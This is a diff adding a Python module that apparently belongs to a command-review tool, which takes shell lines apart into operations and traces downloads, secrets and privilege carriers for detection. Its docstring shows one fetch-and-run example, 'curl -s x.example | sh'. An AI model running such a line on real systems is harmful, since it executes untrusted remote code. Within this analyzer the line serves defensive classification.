@@ -1,0 +1,192 @@
+"""What a shell line comes down to: Commands in, Operations out, with the data flow followed.
+
+Every command is judged by what is known of its program; text that a command would run in its own
+language (`python -c`, `psql -c`, `tar --to-command`) is taken apart in turn. Then flow is
+followed through pipes, substitutions, variables and files of the same line: a download that
+reaches an interpreter, a secret that reaches the network, a file that is written and then run.
+
+    understand_shell("curl -s x.example | sh", place)
+        -> (NETWORK_IN url x.example), (EXECUTE code, traits={REMOTE_CODE}, understood=False)
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+
+from signoff.actions.code.reading import understand_code
+from signoff.actions.operation import Operation, Operations, Reach, Thing, Trait, Verb
+from signoff.actions.place import Place
+from signoff.actions.programs.acts import Effect, Nested
+from signoff.actions.programs.call import Call
+from signoff.actions.programs.knowledge import effects_of
+from signoff.actions.shell.command import Command, Opaque, Reading, RedirectKind
+from signoff.actions.shell.environment import environment_effects
+from signoff.actions.shell.flow import follow_flow
+from signoff.actions.shell.reader import read_shell
+from signoff.actions.sql.understand import understand_sql
+
+MAX_DEPTH = 6
+PRIVILEGE_CARRIERS = frozenset({"sudo", "doas", "su", "runuser", "pkexec", "sudo -u", "gosu"})
+REMOTE_CARRIERS = frozenset({"ssh", "mosh", "sshpass", "pdsh", "ansible"})
+CONTAINER_CARRIERS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "lxc", "crictl"})
+SQL_LANGUAGES = frozenset({"sql", "psql", "mysql", "sqlite", "tsql", "postgres", "clickhouse"})
+# Carriers that do nothing by themselves once what they carry was unfolded.
+PURE_CARRIERS = frozenset(
+    "sudo doas su runuser pkexec env nohup nice ionice timeout stdbuf time setsid chroot unshare "
+    "nsenter flock strace ltrace script watch xargs parallel bash sh zsh dash ksh fish busybox "
+    "toybox eval exec command builtin trap chrt taskset caffeinate gosu systemd-run at batch "
+    "tmux screen npx bunx pnpx coproc noglob nocorrect rlwrap unbuffer faketime catchsegv".split()
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Understood:
+    """Operations of a line and the commands they came from."""
+
+    operations: Operations
+    commands: tuple[Command, ...] = ()
+
+
+def understand_shell(
+    text: str, place: Place, *, carriers: tuple[str, ...] = (), depth: int = 0
+) -> Understood:
+    """Take one shell line apart; never raises, never drops what it could not read."""
+    if depth > MAX_DEPTH:
+        opaque = Opaque(why="commands nested too deep", source=text[:200], carriers=carriers)
+        return Understood((_opaque_operation(opaque),))
+    reading = read_shell(text, cwd=place.cwd, variables=_variables(place))
+    return _judge(reading, place, carriers, depth)
+
+
+def _variables(place: Place) -> dict[str, str]:
+    return {
+        "HOME": place.home,
+        "PWD": place.cwd,
+        "USER": place.home.rsplit("/", 1)[-1],
+        "TMPDIR": "/tmp",  # noqa: S108 - the shell's own variable, nothing is written here
+    }
+
+
+def _judge(reading: Reading, place: Place, carriers: tuple[str, ...], depth: int) -> Understood:
+    parents = {c.parent for c in reading.commands}
+    by_command: list[list[Operation]] = []
+    for command in reading.commands:
+        here = place if command.cwd == place.cwd else replace(place, cwd=command.cwd)
+        operations = list(_operations_of(command, here, command.index in parents, depth))
+        by_command.append(operations)
+    follow_flow(reading.commands, by_command, place, depth)
+    found = [op for operations in by_command for op in operations]
+    found.extend(_opaque_operation(part) for part in reading.opaque)
+    if carriers:
+        found = [replace(op, carriers=(*carriers, *op.carriers)) for op in found]
+    return Understood(tuple(_with_carrier_traits(op) for op in found), reading.commands)
+
+
+def _operations_of(
+    command: Command,
+    place: Place,
+    is_parent: bool,
+    depth: int,  # noqa: FBT001 - private
+) -> Iterator[Operation]:
+    for effect in _effects(command, place, is_parent):
+        if isinstance(effect, Operation):
+            yield effect
+        else:
+            yield from nested_operations(effect, command, place, depth)
+
+
+def _effects(command: Command, place: Place, is_parent: bool) -> Iterator[Effect]:  # noqa: FBT001
+    yield from environment_effects(command, place)
+    if command.words and not (is_parent and command.program in PURE_CARRIERS):
+        yield from effects_of(command, place)
+    if command.redirects or (command.stdin is not None and command.stdin.path):
+        yield from _redirections(command, place)
+
+
+def _redirections(command: Command, place: Place) -> Iterator[Operation]:
+    call = Call(
+        name="redirection",
+        options=(),
+        operands=(),
+        traits=frozenset(),
+        command=command,
+        place=place,
+    )
+    for redirect in command.redirects:
+        verb = Verb.READ if redirect.kind is RedirectKind.READ else Verb.WRITE
+        operation = call.on_file(verb, redirect.target)
+        if operation.reach is not Reach.NONE:
+            yield operation
+
+
+def nested_operations(
+    nested: Nested, command: Command, place: Place, depth: int
+) -> Iterator[Operation]:
+    """Take apart text that a command would run in its own language."""
+    carriers = (*command.carriers, nested.carrier) if nested.carrier else command.carriers
+    if not nested.is_known:
+        yield _opaque_operation(
+            Opaque(
+                why=f"the text given to {nested.carrier or nested.language} cannot be told",
+                source=command.source,
+                carriers=carriers,
+            ),
+            command.index,
+        )
+        return
+    found: list[Operation] = []
+    if nested.language == "shell":
+        found.extend(understand_shell(nested.text, place, depth=depth + 1).operations)
+    elif nested.language in SQL_LANGUAGES:
+        found.extend(understand_sql(nested.text, environment=nested.environment))
+    else:
+        found.extend(code_operations(nested.text, nested.language, place, depth))
+    for op in found:
+        yield replace(
+            op,
+            carriers=(*carriers, *op.carriers),
+            group=command.index,
+            source=op.source or command.source,
+        )
+
+
+def code_operations(text: str, language: str, place: Place, depth: int = 0) -> Iterator[Operation]:
+    """Take apart inline code, and the shell lines and SQL it would run."""
+    reading = understand_code(text, language=language, place=place)
+    yield from reading.operations
+    for line in reading.shell:
+        yield from understand_shell(line, place, depth=depth + 1).operations
+    for statement in reading.sql:
+        yield from understand_sql(statement)
+
+
+def _opaque_operation(part: Opaque, group: int = 0) -> Operation:
+    return Operation(
+        verb=Verb.EXECUTE,
+        thing=Thing.CODE,
+        target=part.source[:80],
+        reach=Reach.UNKNOWN,
+        reversible=False,
+        understood=False,
+        program="shell",
+        source=part.source,
+        carriers=part.carriers,
+        why=part.why,
+        group=group,
+    )
+
+
+def _with_carrier_traits(op: Operation) -> Operation:
+    if not op.carriers:
+        return op
+    more: set[Trait] = set()
+    for carrier in op.carriers:
+        first = carrier.split(" ", 1)[0]
+        if first in PRIVILEGE_CARRIERS:
+            more.add(Trait.AS_ROOT)
+        elif first in REMOTE_CARRIERS:
+            more.add(Trait.ON_REMOTE_HOST)
+        elif first in CONTAINER_CARRIERS:
+            more.add(Trait.IN_CONTAINER)
+    return replace(op, traits=op.traits | more) if more - op.traits else op
